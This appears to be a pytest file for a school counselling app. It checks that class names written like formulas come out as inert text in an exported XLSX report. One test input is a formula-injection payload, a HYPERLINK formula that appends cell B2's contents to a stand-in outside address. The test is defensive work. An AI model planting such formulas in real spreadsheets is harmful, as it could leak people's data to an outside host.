"""Attack on the BK report's spreadsheet (issue 17, attack F10): a class written like a
formula ('=HYPERLINK(...)') is text in the XLSX, not a formula the school's spreadsheet
would run."""

from __future__ import annotations

import datetime as dt
import io

import pytest

from counsel_desk.domain.activities import Activity
from counsel_desk.domain.bk_reports import BkSettings, build_bk_report, parse_period
from counsel_desk.domain.enums import ActivityKind, ServiceComponent, ServiceField, ServiceStrategy
from counsel_desk.domain.school_services import ServiceClass

GUIDANCE = ServiceClass(
    ServiceComponent.BASIC, ServiceStrategy.CLASSROOM_GUIDANCE, (ServiceField.LEARNING,)
)


@pytest.mark.parametrize(
    "written", ['=HYPERLINK("http://example.invalid/?"&B2,"VIII-B")', "=1+1", "==VIII"]
)
def test_a_class_written_like_a_formula_is_text_in_the_spreadsheet(written) -> None:
    from openpyxl import load_workbook

    from counsel_desk.export.bk_report_xlsx import render_bk_report_xlsx

    settings = BkSettings()
    activities = [
        Activity(
            ActivityKind.CLASSROOM_GUIDANCE,
            dt.date(2026, 11, d),
            "Gaya belajar",
            written,
            30,
            2,
            service=GUIDANCE,
        )
        for d in range(2, 8)
    ]
    report = build_bk_report(parse_period("2026-11", settings), [], activities, settings, 20)
    book = load_workbook(io.BytesIO(render_bk_report_xlsx(report, language="id")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert any(c.value == written for c in cells)
    assert all(c.data_type != "f" for c in cells)
